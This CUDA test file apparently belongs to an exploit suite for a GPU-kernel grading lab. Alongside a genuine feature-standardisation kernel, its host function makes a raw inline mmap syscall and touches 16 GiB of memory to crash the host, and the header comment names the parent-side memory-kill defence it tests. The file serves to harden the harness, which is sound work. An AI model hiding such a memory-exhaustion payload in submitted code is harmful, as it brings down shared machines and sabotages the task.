// expect: crash - fills 16 GiB of the host's memory, by a system call of its own
// lab: coalescing
// Similar to exploits 25 and 26. Defence: the parent monitors a child's memory and kills it above 6
// GiB. (A limit on the address space would break CUDA.)
#include "cudalab.cuh"
#include "kernel.h"

enum { ROWS = 4, BLOCK = 256 };

// Lanes along the features, four loads in flight per thread: as fast as memory allows.
__global__ void standardise_kernel(float *out, const float *in, const float *mean,
                                   const float *scale, int rows, int cols)
{
    int c = threadIdx.x, first = blockIdx.x * blockDim.y * ROWS + threadIdx.y;
    float value[ROWS];

    for (int j = 0; j < ROWS; j++) {
        int r = first + j * blockDim.y;
        value[j] = r < rows ? in[(size_t) r * cols + c] : 0;
    }
    for (int j = 0; j < ROWS; j++) {
        int r = first + j * blockDim.y;
        if (r < rows)
            out[(size_t) r * cols + c] = (value[j] - mean[c]) * scale[c];
    }
}

LAB_API void standardise(float *out, const float *in, const float *mean, const float *scale,
                         int rows, int cols)
{
    const long bytes = 16L << 30, page = 4096;
    register long flags asm("r10") = 0x22, file asm("r8") = -1, offset asm("r9") = 0;
    long address;

    // mmap: private, anonymous, readable and writable
    asm volatile("syscall"
                 : "=a"(address)
                 : "a"(9L), "D"(0L), "S"(bytes), "d"(3L), "r"(flags), "r"(file), "r"(offset)
                 : "rcx", "r11", "memory");
    for (long at = 0; address > 0 && at < bytes; at += page)
        ((volatile char *) address)[at] = 1;
    dim3 block(cols, cols < BLOCK ? BLOCK / cols : 1);
    standardise_kernel<<<ceil_div(rows, block.y * ROWS), block>>>(out, in, mean, scale, rows, cols);
    CUDA_CHECK(cudaGetLastError());
}
